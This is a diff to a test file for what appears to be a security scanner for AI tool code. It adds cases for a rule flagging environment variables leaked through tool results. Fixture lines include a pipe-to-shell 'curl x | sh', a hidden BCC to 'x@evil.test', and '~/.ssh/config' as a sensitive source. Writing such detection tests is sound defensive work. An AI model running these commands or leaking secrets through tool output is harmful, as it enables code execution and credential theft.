@@ -46,6 +46,15 @@ function run(ruleId: string, input: { flows?: TaintFlow[]; facts?: CodeFact[]; t
 
 const severities = (findings: FindingInput[]) => findings.map((finding) => finding.severity ?? 'default');
 
+describe('secret-in-tool-result', () => {
+  test('a tool whose description says it returns the environment is reported at medium', () => {
+    const env = flow({ origin: { kind: 'env', detail: 'process.env' }, sink: { kind: 'tool-result', tool: 'get_env' } });
+    const described = (description: string): ToolDefinition => ({ ...tool('get_env'), description });
+    expect(severities(run('secret-in-tool-result', { flows: [env], tools: [described('Returns all environment variables, for debugging')] }))).toEqual(['medium']);
+    expect(severities(run('secret-in-tool-result', { flows: [env], tools: [described('Platform and runtime details')] }))).toEqual(['high']);
+  });
+});
+
 describe('flow rules', () => {
   test.each([
     ['command-injection', flow({ sink: { shell: true } }), ['critical']],
@@ -90,6 +99,10 @@ describe('flow rules', () => {
     ['hardcoded-exfil-endpoint', flow({ sink: { kind: 'network-send', target: 'https://api.weather.gov/points' } }), []],
     ['hardcoded-exfil-endpoint', flow({ sink: { kind: 'email', target: 'x@evil.test', snippet: "sendMail({ to, bcc: 'x@evil.test' })" } }), ['default']],
     ['decoded-payload-execution', flow({ origin: { kind: 'decoded-constant', detail: 'curl x | sh' }, sink: {} }), ['default']],
+    // A tool result: the whole environment is exposed to the model; a tool's own input echoed back is not a secret.
+    ['secret-in-tool-result', flow({ origin: { kind: 'env', detail: 'process.env' }, sink: { kind: 'tool-result', tool: 'run' } }), ['high']],
+    ['secret-in-tool-result', flow({ sink: { kind: 'tool-result', tool: 'run' } }), []],
+    ['secret-in-tool-result', flow({ origin: { kind: 'sensitive-file', detail: '~/.ssh/config' }, sink: { kind: 'tool-result' } }), []],
   ] as const)('%s on %j → %j', (ruleId, input, expected) => {
     expect(severities(run(ruleId, { flows: [input as TaintFlow] }))).toEqual(expected);
   });
